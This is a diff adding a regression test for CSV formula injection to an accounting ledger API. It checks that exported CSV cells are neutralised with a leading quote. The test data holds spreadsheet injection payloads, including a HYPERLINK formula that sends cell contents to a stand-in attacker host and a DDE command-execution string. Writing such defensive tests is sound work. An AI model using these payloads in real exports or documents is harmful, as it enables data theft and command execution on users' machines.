@@ -3,6 +3,7 @@ import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startTestStack, type TestStack } from "./support/stack.js";
+import { parse } from "csv-parse/sync";
 import { balancesOf, checkFec } from "./support/fec-check.js";
 
 const SIREN = "912345678";
@@ -110,5 +111,46 @@ describe("auxiliary accounts", () => {
     expect(res.status).toBe(400);
     const paths = ((await res.json()) as { errors: { path: string }[] }).errors.map((e) => e.path);
     expect(paths).toEqual(expect.arrayContaining(["lines.1.aux.number", "lines.1.aux.label"]));
+  });
+});
+
+describe("CSV formula injection", () => {
+  it("bug: a cell starting with =, +, -, @, tab or CR reached the spreadsheet as a formula", async () => {
+    const acc = await stack.call("POST", "/v1/ledger/accounts", { body: { number: "62268", label: "=1+1 honoraires" } });
+    expect(acc.status).toBe(201);
+    const hostile = {
+      journal: "OD",
+      date: "2027-02-01",
+      label: '=HYPERLINK("http://evil.example/?x="&A1,"Cliquer")',
+      pieceRef: "+33612345678",
+      lines: [
+        { account: "62268", debit: 1000 },
+        { account: "401", credit: 600, label: "@SUM(A1:A9)", aux: { number: "F-1", label: "-cmd|' /C calc'!A0" } },
+        { account: "512", credit: 400, label: "\t=2*3" },
+      ],
+    };
+    const posted = await stack.call("POST", "/v1/ledger/entries", { body: hostile });
+    expect(posted.status).toBe(201);
+
+    const csv = await download(2027, "csv");
+    // Read back as a spreadsheet would: every cell, after CSV unquoting.
+    const rows = parse(csv.text, { delimiter: ";", bom: true, relax_column_count: false }) as string[][];
+    expect(rows.length).toBeGreaterThan(3);
+    for (const row of rows) {
+      expect(row).toHaveLength(18);
+      for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    // Neutralised, not lost: the text is kept behind the quote mark.
+    const cells = rows.flat();
+    expect(cells).toContain(`'${hostile.label}`);
+    expect(cells).toContain("'+33612345678");
+    expect(cells).toContain("'=1+1 honoraires");
+    expect(cells).toContain("'-cmd|' /C calc'!A0".replace("|", " "));
+    expect(cells).toContain("'@SUM(A1:A9)");
+
+    // The FEC is not a spreadsheet file: its text stays exactly as written (its checker reads it).
+    const fec = await download(2027, "fec");
+    expect(checkFec(fec.name, fec.text, SIREN, 2027).problems).toEqual([]);
+    expect(fec.text).toContain("=HYPERLINK");
   });
 });
